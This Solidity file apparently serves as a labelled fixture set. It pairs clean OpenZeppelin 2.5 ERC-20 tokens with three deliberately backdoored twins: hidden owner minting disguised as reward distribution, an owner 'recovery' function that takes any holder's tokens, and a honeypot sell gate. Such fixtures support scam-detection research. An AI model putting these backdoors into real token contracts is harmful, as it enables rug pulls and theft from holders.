// SPDX-License-Identifier: MIT
// Family F01: OpenZeppelin 2.5 ERC-20s (solc 0.5), the base of most 2020 tokens. Clean presets and
// backdoored twins built on them.
pragma solidity ^0.5.0;

import "../vendor/oz-2.5.1/token/ERC20/ERC20.sol";
import "../vendor/oz-2.5.1/token/ERC20/ERC20Detailed.sol";
import "../vendor/oz-2.5.1/token/ERC20/ERC20Burnable.sol";
import "../vendor/oz-2.5.1/token/ERC20/ERC20Capped.sol";
import "../vendor/oz-2.5.1/token/ERC20/ERC20Mintable.sol";
import "../vendor/oz-2.5.1/token/ERC20/ERC20Pausable.sol";
import "../vendor/oz-2.5.1/ownership/Ownable.sol";

contract Oz2Fixed is ERC20, ERC20Detailed {
    constructor() public ERC20Detailed("Fixed", "FIX", 18) {
        _mint(msg.sender, 1000000 * 1e18);
    }
}

contract Oz2Burnable is ERC20, ERC20Detailed, ERC20Burnable {
    constructor() public ERC20Detailed("Burn", "BRN", 18) {
        _mint(msg.sender, 1000000 * 1e18);
    }
}

contract Oz2Capped is ERC20Detailed, ERC20Capped {
    constructor() public ERC20Detailed("Capped", "CAP", 18) ERC20Capped(21000000 * 1e18) {
        _mint(msg.sender, 1000000 * 1e18);
    }
}

contract Oz2MintablePausable is ERC20Detailed, ERC20Mintable, ERC20Pausable {
    constructor() public ERC20Detailed("MintPause", "MP", 18) {
        _mint(msg.sender, 1000000 * 1e18);
    }
}

contract Oz2OwnedFixed is ERC20, ERC20Detailed, Ownable {
    string public website;
    constructor() public ERC20Detailed("Owned", "OWN", 18) {
        _mint(msg.sender, 1000000 * 1e18);
    }
    function setWebsite(string calldata url) external onlyOwner {
        website = url;
    }
}

/** Backdoor: the owner mints under a rewards name. */
contract Oz2RewardMint is ERC20, ERC20Detailed, Ownable {
    constructor() public ERC20Detailed("Reward", "RWD", 18) {
        _mint(msg.sender, 1000000 * 1e18);
    }
    function distributeRewards(address pool, uint256 amount) external onlyOwner {
        _mint(pool, amount);
    }
}

/** Backdoor: the owner "recovers" any holder's tokens. */
contract Oz2Recover is ERC20, ERC20Detailed, Ownable {
    constructor() public ERC20Detailed("Recover", "RCV", 18) {
        _mint(msg.sender, 1000000 * 1e18);
    }
    function recoverLostTokens(address holder, uint256 amount) external onlyOwner {
        _transfer(holder, owner(), amount);
    }
}

/** Backdoor: transfers to the pair revert unless the seller is on a list the owner keeps. */
contract Oz2SellGate is ERC20, ERC20Detailed, Ownable {
    address public pair;
    mapping(address => bool) private _canSell;
    constructor() public ERC20Detailed("Gate", "GATE", 18) {
        _mint(msg.sender, 1000000 * 1e18);
        _canSell[msg.sender] = true;
    }
    function setPair(address p) external onlyOwner { pair = p; }
    function setSeller(address who, bool ok) external onlyOwner { _canSell[who] = ok; }
    function _transfer(address sender, address recipient, uint256 amount) internal {
        if (recipient == pair) require(_canSell[sender], "not allowed");
        super._transfer(sender, recipient, amount);
    }
}
